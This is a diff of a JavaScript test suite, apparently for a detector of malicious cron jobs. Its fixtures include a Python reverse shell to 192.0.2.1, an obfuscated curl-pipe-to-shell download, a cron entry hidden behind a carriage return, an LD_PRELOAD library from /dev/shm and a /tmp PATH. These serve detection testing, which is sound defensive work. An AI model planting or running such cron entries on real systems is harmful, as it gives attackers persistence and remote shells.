@@ -38,7 +38,7 @@ describe('jobs of cron', () => {
 		['Python that joins the two', { '/etc/cron.d/x': '1 * * * * root python3 /opt/m.py\n', '/opt/m.py': '#!/usr/bin/python3\nimport socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",1))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n' }, 'critical /etc/cron.d/x'],
 		["root's home as pages", { '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n', '/etc/cron.d/x': '@reboot root python3 -m http.server 8080\n' }, 'high /etc/cron.d/x'],
 		['jobs of Python', { '/var/spool/cron/crontabs/root': "SHELL=/usr/bin/python3\n*/30 * * * * print(1)\n" }, 'medium /var/spool/cron/crontabs/root'],
-		['a job put together from what the table sets', { '/etc/cron.d/x': 'a=cu\nb=rl\n7 * * * * root $a$b -k http://192.0.2.1/x | sh\n' }, 'high /etc/cron.d/x'],
+		['a job put together from what the table sets', { '/etc/cron.d/x': 'a=cu\nb=rl\n7 * * * * root $a$b -k http://192.0.2.1/x | $(which ba\'\'sh)\n' }, 'high /etc/cron.d/x'],
 		['a job behind a carriage return', { '/etc/cron.d/x': '*/20 * * * * root /usr/share/misc/.m/upd #\r# m h dom mon dow user command          \n', '/usr/share/misc/.m/upd': { mode: 0o755, content: '\x7fELF' } }, 'high /etc/cron.d/x,high /etc/cron.d/x'],
 		['a library for everything', { '/etc/cron.d/x': 'LD_PRELOAD=/dev/shm/l.so\n', '/dev/shm/l.so': '' }, 'high /etc/cron.d/x'],
 		['a path anyone may fill', { '/etc/crontab': 'PATH=/tmp:/usr/bin\n' }, 'high /etc/crontab'],
